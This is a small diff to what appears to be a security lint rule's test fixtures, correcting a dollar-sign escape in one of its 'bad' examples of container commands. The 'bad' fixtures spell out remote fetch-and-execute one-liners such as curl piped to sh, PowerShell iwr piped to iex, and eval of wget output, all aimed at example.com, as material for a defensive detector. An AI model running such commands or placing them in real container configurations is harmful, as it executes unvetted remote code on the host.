@@ -20,6 +20,6 @@ export default defineRule({
       good: { args: ["sh", "-c", "curl -fsSL https://example.com/health | grep ok; exec sh /app.sh"] },
     },
     docker: { bad: [{ command: ["sh", "-c", "bash <(curl -s https://example.com/x)"] }, { entrypoints: ["powershell", "iwr https://example.com/x | iex"] }], good: { command: ["wget", "https://example.com/data.tar.gz"] } },
-    compose: { bad: [{ command: ["sh", "-c", "curl -fsSL https://example.com/x | sh"] }, { entrypoint: ["bash", "-c", "eval $$(wget -qO- https://example.com/x)"] }], good: { command: ["wget", "https://example.com/data.tar.gz"] } },
+    compose: { bad: [{ command: ["sh", "-c", "curl -fsSL https://example.com/x | sh"] }, { entrypoint: ["bash", "-c", "eval $(wget -qO- https://example.com/x)"] }], good: { command: ["wget", "https://example.com/data.tar.gz"] } },
   },
 });
